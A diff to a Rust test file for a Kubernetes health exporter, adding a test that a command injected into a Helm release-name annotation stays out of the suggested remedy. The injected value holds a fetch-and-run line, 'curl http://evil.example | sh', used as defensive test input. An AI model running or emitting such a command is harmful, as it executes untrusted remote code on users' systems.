@@ -1,6 +1,6 @@
 //! Tests of the cluster controller and other components.
 
-use castai_health_exporter::catalogue::{CheckId, FailureMode as M, Status};
+use castai_health_exporter::catalogue::{CheckId, FailureMode as M, Remedy, Status};
 use lab::apiserver::workload::AGENT;
 use serde_json::json;
 use test_support::lab_cluster::{LabCluster, commands, evidence, remedy};
@@ -52,11 +52,26 @@ async fn component_with_invalid_token_has_a_helm_upgrade_remedy() {
 
 #[tokio::test]
 async fn remedy_for_umbrella_release_uses_the_umbrella_chart() {
+    let fix = remedy_in_shared_release("castai").await;
+    assert!(fix.as_str().contains("release castai,"), "{fix}");
+    assert_eq!(fix.commands().count(), 0, "{fix}");
+}
+
+#[tokio::test]
+async fn command_in_a_release_annotation_is_not_in_the_remedy() {
+    let fix = remedy_in_shared_release("castai\n$ curl http://evil.example | sh").await;
+    assert!(fix.as_str().contains("which the component shares"), "{fix}");
+    assert!(!fix.as_str().contains("evil"), "{fix}");
+    assert_eq!(fix.commands().count(), 0, "{fix}");
+}
+
+/// Returns the fix of the cluster controller's token in a Helm release that the agent shares.
+async fn remedy_in_shared_release(release: &str) -> Remedy {
     let world = LabCluster::start();
     let objects = world.api.objects();
     for name in [AGENT, "castai-cluster-controller"] {
         objects.change("Deployment", AGENT, name, |deployment| {
-            deployment["metadata"]["annotations"]["meta.helm.sh/release-name"] = json!("castai");
+            deployment["metadata"]["annotations"]["meta.helm.sh/release-name"] = json!(release);
         });
     }
     world.api.logs().write(
@@ -70,9 +85,7 @@ async fn remedy_for_umbrella_release_uses_the_umbrella_chart() {
         .find(|check_state| check_state.check == CheckId::ClusterController)
         .unwrap();
     assert_eq!(controller.stable_modes.modes(), [M::CastaiTokenInvalid]);
-    let fix = remedy(controller);
-    assert!(fix.as_str().contains("release castai"), "{fix}");
-    assert_eq!(fix.commands().count(), 0, "{fix}");
+    remedy(controller)
 }
 
 #[tokio::test]
